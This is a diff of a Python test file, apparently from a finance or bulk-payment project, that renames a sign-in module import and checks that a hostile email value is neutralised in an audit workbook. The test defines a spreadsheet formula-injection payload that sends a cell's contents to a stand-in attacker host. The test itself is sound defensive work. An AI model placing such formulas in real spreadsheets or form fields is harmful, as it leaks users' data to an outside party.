@@ -15,7 +15,7 @@ from dollr_core.basics.access import Actor
 from dollr_core.bulk import drafts, progress, recipient_file
 from dollr_core.ledger import audit
 from dollr_core.services import Services
-from dollr_core.team import users
+from dollr_core.team import sign_in
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -61,8 +61,8 @@ def test_round_trip_keeps_text_digits_and_accents() -> None:
 
 
 def test_a_sign_in_email_is_neutralised_in_the_audit_workbook(sqlite_services: Services) -> None:
-    with pytest.raises(users.SignInError):
-        users.sign_in(
+    with pytest.raises(sign_in.SignInError):
+        sign_in.sign_in(
             sqlite_services.engine, EVIL, "whatever it is", client="stranger", sleep=lambda _s: None
         )
     records = audit.table(audit.search(sqlite_services.engine, audit.AuditFilter()))
